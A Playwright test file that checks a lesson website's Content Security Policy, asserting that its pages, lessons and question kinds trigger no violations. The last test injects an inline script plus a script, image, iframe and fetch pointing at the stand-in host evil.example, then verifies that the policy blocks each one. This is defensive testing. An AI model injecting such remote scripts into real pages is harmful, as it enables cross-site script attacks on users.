"""The pages under their own security policy, which the other tests' browser does not enforce:
nothing that a page does is forbidden to it, and what it never does is.
"""

import re
from collections.abc import Iterable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from lessons.outputs.catalogue import chapters, lessons
from pages.server.application import OTHER_PAGES
from tests.browser.looking import becomes, open_drawers, to_lesson

pytestmark = pytest.mark.browser

# Said by the browser for whatever the policy forbids. Streamlit's protobuf tries WebAssembly for
# numbers of 64 bits, and does without.
WATCH = """
window.forbidden = [];
addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sourceFile }) => {
  if (blockedURI === "wasm-eval" && /protobuf/.test(sourceFile)) return;
  forbidden.push([violatedDirective, blockedURI, sourceFile]);
});
"""


@pytest.fixture(scope="module")
def page(browser: Browser) -> Iterator[Page]:
    """One for all: what is tested leaves nothing, and its caches save most of each page."""
    context = browser.new_context(viewport={"width": 1280, "height": 2400})
    context.add_init_script(WATCH)
    yield context.new_page()
    context.close()


def shown(page: Page, url: str) -> None:
    page.goto(url)
    drawn(page)
    page.wait_for_timeout(500)


def drawn(page: Page) -> None:
    expect(page.locator("h1").first).to_be_visible()
    expect(page.locator('.stApp[data-test-script-state="notRunning"]')).to_be_attached()
    expect(page.locator('.gl-lab:not([data-ready="true"])')).to_have_count(0, timeout=60_000)


# On a commit home, a lesson, and the question that brings a script of its own; every page, lesson
# and kind of question, and the charts' other script, in `make test-long`.
def mostly_long(every: Iterable[Any], *often: Any) -> list[Any]:
    return [one if one in often else pytest.param(one, marks=pytest.mark.long) for one in every]


@pytest.mark.parametrize("path", mostly_long(["/", *(f"/{name}" for name in OTHER_PAGES)], "/"))
def test_no_page_needs_what_the_policy_forbids(app, page, path):
    shown(page, app.url + path)
    assert page.evaluate("forbidden") == []


@pytest.mark.parametrize(
    ("chapter", "lessons"),
    [
        pytest.param(chapters()[2], chapters()[2].lessons[1:2], id="a lesson"),
        *(
            pytest.param(one, one.lessons, id=one.slug, marks=pytest.mark.long)
            for one in chapters()
        ),
    ],
)
def test_no_lesson_does(app, page, chapter, lessons):
    """Each in turn, as a learner goes from one to the next; its code and its file at the end."""
    shown(page, f"{app.url}/{chapter.slug}")
    for lesson in lessons:
        title = re.sub(r"[`*]", "", lesson.title)
        to_lesson(page, re.sub(r"[`*]", "", lesson.prose.front["short"]))
        expect(page.locator("h1")).to_have_text(title)
        drawn(page)
        assert page.evaluate("forbidden") == [], lesson.slug
    open_drawers(page, "Code")
    with page.expect_download():
        page.get_by_role("link", name="Download").first.click()
    assert page.evaluate("forbidden") == []


@pytest.mark.parametrize("kind", mostly_long(["choice", "number", "sketch", "bug"], "sketch"))
def test_no_kind_of_question_does(app, page, kind):
    lesson, step = next(
        (lesson, number)
        for lesson in lessons()
        for number, step in enumerate(lesson.prose.steps, start=1)
        if step.question and step.question.kind == kind
    )
    shown(page, f"{app.url}/{lesson.chapter}?lesson={lesson.slug}&step={step}")
    assert page.evaluate("forbidden") == []


def test_a_script_from_elsewhere_a_frame_and_a_form_are_forbidden(app, page):
    shown(page, app.url + "/glossary")
    page.evaluate("""() => {
      const add = (name, set) =>
        document.body.append(Object.assign(document.createElement(name), set));
      add("script", { textContent: "window.ran = 1" });
      add("script", { src: "https://evil.example/x.js" });
      add("img", { src: "https://evil.example/x.png" });
      add("iframe", { src: "https://evil.example/" });
      fetch("https://evil.example/").catch(() => {});
    }""")
    kinds = {"script-src", "img-src", "frame-src", "connect-src"}
    becomes(
        page, lambda: {kind.split("-elem")[0] for kind, *_ in page.evaluate("forbidden")}, kinds
    )
    assert page.evaluate("window.ran") is None
